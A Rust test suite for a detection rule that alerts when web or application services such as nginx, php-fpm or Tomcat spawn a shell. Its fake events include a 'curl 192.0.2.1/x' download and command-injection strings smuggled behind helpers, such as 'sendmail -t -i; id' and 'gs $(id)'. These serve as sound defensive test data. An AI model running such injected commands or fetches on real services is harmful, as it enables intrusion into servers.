use ocellus_sdk::testing::{FakeEvent, Tester};
use shell_from_service::ShellFromService;

fn shell(command: &str) -> FakeEvent {
    FakeEvent::exec("/usr/bin/dash", ["sh", "-c", command]).name("sh").user(33, "www-data")
}

fn from_nginx(command: &str) -> FakeEvent {
    shell(command).parent("/usr/sbin/nginx", ["nginx: worker process"])
}

#[test]
fn a_shell_of_a_web_server_alerts() {
    let alert = Tester::<ShellFromService>::new().expect_alert(&from_nginx("id"));
    assert_eq!(alert.message, "nginx started a shell: sh -c id");
}

#[test]
fn a_shell_of_a_versioned_service_alerts() {
    let event = shell("uname -a").parent("/usr/sbin/php-fpm8.2", ["php-fpm: pool www"]);
    Tester::<ShellFromService>::new().expect_alert(&event);
}

#[test]
fn a_java_server_alerts_and_a_java_build_does_not() {
    let mut rule = Tester::<ShellFromService>::new();
    let java = "/usr/lib/jvm/java-17/bin/java";
    let tomcat = ["java", "-Dcatalina.home=/opt/tomcat", "org.apache.catalina.startup.Bootstrap"];
    rule.expect_alert(&shell("curl 192.0.2.1/x").parent(java, tomcat));
    rule.expect_pass(&shell("make").parent(java, ["java", "-jar", "agent.jar"]));
}

#[test]
fn shells_of_people_pass() {
    let mut rule = Tester::<ShellFromService>::new();
    rule.expect_pass(&shell("id").parent("/usr/sbin/sshd", ["sshd: user@pts/0"]));
    rule.expect_pass(&shell("id").parent("/usr/sbin/cron", ["/usr/sbin/CRON", "-f"]));
}

#[test]
fn other_programs_of_a_service_pass() {
    let event = FakeEvent::exec("/usr/sbin/nginx", ["nginx", "-t"]).parent("/usr/sbin/nginx", []);
    assert!(!Tester::<ShellFromService>::new().wants(&event));
}

#[test]
fn what_services_do_by_design_passes() {
    let mut rule = Tester::<ShellFromService>::new();
    let apache = "/usr/sbin/apache2";
    rule.expect_pass(&shell("/usr/bin/rotatelogs /var/log/a.%Y 86400").parent(apache, []));
    rule.expect_pass(&shell("/usr/sbin/sendmail -t -i").parent("/usr/sbin/php-fpm7.4", []));
    let archive = "test ! -f /backup/0001 && cp pg_wal/0001 /backup/0001";
    rule.expect_pass(&shell(archive).parent("/usr/lib/postgresql/16/bin/postgres", []));
}

#[test]
fn more_behind_a_helper_alerts() {
    let mut rule = Tester::<ShellFromService>::new();
    for command in ["sendmail -t -i; id", "convert a.png `id`", "gs $(id)", "cat pg_wal/1 | sh"] {
        rule.expect_alert(&from_nginx(command));
    }
}

#[test]
fn the_operator_can_allow_and_add() {
    let config = "allow = ['/opt/app/render ']\nservices = ['appd']\n";
    let mut rule = Tester::<ShellFromService>::configured(config).expect("it is well-formed");
    rule.expect_pass(&from_nginx("/opt/app/render page"));
    rule.expect_alert(&shell("id").parent("/opt/app/appd", []));
}
